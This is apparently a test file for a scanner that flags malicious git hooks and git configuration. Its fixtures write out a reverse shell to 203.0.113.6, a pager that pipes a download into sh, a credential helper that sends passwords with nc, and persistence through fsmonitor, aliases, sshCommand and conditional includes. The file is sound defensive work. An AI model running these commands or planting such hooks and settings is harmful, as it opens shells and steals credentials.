import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { gitHooks, kindOf } from './check.ts';
import { readGitConfig } from './git-config.ts';

const repo = '/srv/site/.git';
const evil = { text: '#!/bin/sh\n(bash -i >& /dev/tcp/203.0.113.6/443 0>&1) &\n', mode: 0o755 };

tellsOf(gitHooks, {
  rows: {
    'a hook of a repository': { files: { [`${repo}/hooks/post-merge`]: evil }, finds: [`intrusion critical ${repo}/hooks/post-merge`] },
    'a hook of a bare one': { files: { '/home/git/app.git/hooks/post-receive': evil }, finds: ['intrusion critical /home/git/app.git/hooks/post-receive'] },
    'a hook of the template': { files: { '/usr/share/git-core/templates/hooks/pre-commit': evil }, finds: ['intrusion critical /usr/share/git-core/templates/hooks/pre-commit'] },
    'a watcher of files': { files: { [`${repo}/config`]: '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "/tmp/.fs/w"\n' }, finds: [`intrusion high ${repo}/config`] },
    'a pager, an alias and a connection': { files: { '/home/lin/.gitconfig': '[core]\n pager = sh -c \\"curl http://203.0.113.6/p | sh\\"\n[alias]\n st = !/dev/shm/st\n[core]\n sshCommand = /var/tmp/ssh -q\n' }, finds: ['intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig'] },
    'settings included on a condition': { files: { '/root/.gitconfig': '[includeIf "gitdir:/"]\n path = ~/.config/w\n', '/root/.config/w': '[core]\n sshCommand = "/dev/shm/s & ssh"\n' }, finds: ['intrusion high /root/.config/w'] },
    'a helper that sends passwords': { files: { '/srv/keep/.git/config': '[credential]\n helper = "!f() { cat | nc 203.0.113.6 9000; }; f"\n' }, finds: ['intrusion high /srv/keep/.git/config'] },
    'hooks for all repositories': { files: { '/etc/gitconfig': '[core]\n\thooksPath = /usr/share/gh\n', '/usr/share/gh/pre-push': evil }, finds: ['intrusion critical /etc/gitconfig'] },
  },
  ordinary: {
    [`${repo}/config`]: '[core]\n\tbare = false\n\tfsmonitor = true\n[remote "origin"]\n\turl = git@git.example.com:a/b.git\n',
    [`${repo}/hooks/pre-commit`]: { text: '#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\nnpx lint-staged\n', mode: 0o755 },
    [`${repo}/hooks/post-merge.sample`]: evil, [`${repo}/hooks/post-checkout`]: { ...evil, mode: 0o644 },
    '/home/git/app.git/hooks/post-receive': { text: '#!/bin/bash\nGIT_WORK_TREE=/var/www/app git checkout -f\ncd /var/www/app && npm ci && systemctl restart app\n', mode: 0o755 },
    '/home/lin/.gitconfig': '[user]\n name = Lin\n[alias]\n co = checkout\n lg = !git log --oneline\n[credential]\n helper = store\n[filter "lfs"]\n clean = git-lfs clean -- %f\n process = git-lfs filter-process\n',
    '/opt/tool/hooks/update': evil,
  },
  reads: '/home/lin/.gitconfig',
});

it('knows its files by their names', () => {
  expect(['/a/.git/hooks/pre-push', '/a/.git/modules/b/hooks/update', '/root/.gitconfig', '/r/.config/git/config', '/a.git/config'].map(kindOf)).toEqual(['hook', 'hook', 'config', 'config', 'config']);
  expect(['/a/.git/hooks/pre-push.sample', '/a/hooks/update', '/etc/foo/config', '/a/.git/index'].map(kindOf)).toEqual([undefined, undefined, undefined, undefined]);
});

it('reads the language of git', () => {
  expect(readGitConfig('[a "B c"] x = 1 ; no\n\tY = "two \\" # words" # no\n z\n[D]\n w = one \\\ntwo\n').map(({ name, value, line }) => [name, value, line])).toEqual([['a.B c.x', '1', 1], ['a.B c.y', 'two " # words', 2], ['a.B c.z', 'true', 3], ['d.w', 'one two', 5]]);
});
